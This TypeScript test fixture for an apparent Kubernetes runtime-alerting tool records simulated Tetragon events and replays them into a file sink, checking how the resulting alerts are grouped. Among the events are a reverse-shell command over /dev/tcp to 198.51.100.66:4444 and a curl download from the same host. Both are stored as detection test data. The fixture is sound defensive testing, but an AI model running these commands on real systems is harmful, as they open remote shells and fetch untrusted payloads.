/**
 * The alert scenario of test/e2e/alert-stories.test.ts and alert-grouping-live.test.ts: Tetragon
 * events of a `kubectl exec` session (a shell and eleven commands) in a database and a reverse
 * shell with a late download in a web server, after a 30-minute learning window; and how to read
 * what the file sink made of it.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import type { AlertDocumentV1 } from '../../collector/sinks/document.js';
import { readAlertFile } from './alerting.js';
import { run } from './cli-run.js';
import { ClusterRecorder, IMAGES, T0 } from './scenario.js';
import { SESSION_COMMANDS } from './session-commands.js';

const MIN = 60_000;
const at = (minutes: number, seconds = 0): number => T0 + minutes * MIN + seconds * 1000;

/** The commands typed after the session's shell. */
export const SESSION = SESSION_COMMANDS.slice(1);

export function recording(): { jsonl: string; sessionTimes: number[] } {
  const r = new ClusterRecorder();
  const days = (n: number): number => T0 - n * 86_400_000;
  const web = r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-x2k9p', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-a', ip: '10.244.1.11', containerStart: days(3) });
  const db = r.pod({ namespace: 'shop', name: 'db-0', workload: 'db', kind: 'StatefulSet', container: 'postgres', image: IMAGES.postgres, node: 'node-a', ip: '10.244.1.50', containerStart: days(9) });
  const nginx = r.procFs(at(0), web, '/usr/sbin/nginx', '-g daemon off;');
  const postgres = r.procFs(at(0), db, '/usr/lib/postgresql/16/bin/postgres', '-D /var/lib/postgresql/data');
  // Learning (30 minutes): their ordinary traffic, which goes on all along.
  for (let m = 1; m < 80; m += 5) {
    r.connect(at(m), nginx, '10.96.12.40', 8080);
    r.connect(at(m, 30), postgres, '10.96.30.5', 5432);
  }
  // A kubectl exec into the database: bash and eleven commands, ten seconds apart.
  const runc = r.runcExec(at(60), db);
  const bash = r.exec(at(60), db, '/bin/bash', '', runc, { inInitTree: false });
  const sessionTimes = [at(60)];
  SESSION.forEach(([bin, args], i) => {
    const cmd = r.exec(at(60, 10 + i * 10), db, bin, args, bash, { inInitTree: false });
    sessionTimes.push(at(60, 10 + i * 10));
    r.exit(at(60, 12 + i * 10), cmd);
  });
  r.exit(at(62, 30), bash);
  // A reverse shell in web: nginx → sh -c → bash -i, connecting out; a download 90 s later.
  const sh = r.exec(at(70), web, '/bin/sh', '-c bash -i >& /dev/tcp/198.51.100.66/4444 0>&1', nginx, { uid: 101 });
  const shell = r.exec(at(70, 1), web, '/bin/bash', '-i', sh, { uid: 101 });
  r.connect(at(70, 2), shell, '198.51.100.66', 4444);
  r.exec(at(71, 30), web, '/usr/bin/curl', '-so /tmp/x https://198.51.100.66/x', shell, { uid: 101 });
  return { jsonl: r.stream().map((e) => JSON.stringify(e)).join('\n').concat('\n'), sessionTimes };
}

/** Per alert key, its notifications in order. */
export function byKey(docs: readonly AlertDocumentV1[]): Map<string, AlertDocumentV1[]> {
  const out = new Map<string, AlertDocumentV1[]>();
  for (const d of docs) out.set(d.key, [...(out.get(d.key) ?? []), d]);
  return out;
}

/** What each alert finally says: kind and members (item keys), independent of ids and key stamps. */
export function grouping(docs: readonly AlertDocumentV1[]): string[] {
  return [...byKey(docs).values()]
    .map((list) => list[list.length - 1]!)
    .map((d) => `${d.kind} ${d.workload?.name}: ${d.deviations.map((x) => (x.kind === 'interactive-session' ? 'session' : x.itemKey)).sort().join(', ')}`)
    .sort();
}


/** `driftwatch replay --deliver` of the recording into a file sink, on the shipped defaults plus the learning window. */
export async function replayToFile(dir: string, events: string): Promise<{ code: number; err: string; docs: AlertDocumentV1[] }> {
  const alerts = join(dir, 'alerts.jsonl');
  const config = join(dir, 'driftwatch.yaml');
  writeFileSync(config, stringify({ cluster: 'demo', collector: { learning: { window: '30m' }, alerting: { sinks: [{ name: 'file', type: 'file', path: alerts }] } } }));
  const r = await run(null, ['replay', events, '-c', config, '--baselines', join(dir, 'baselines'), '--deliver', '-o', 'json']);
  return { code: r.code, err: r.err, docs: readAlertFile(alerts) };
}
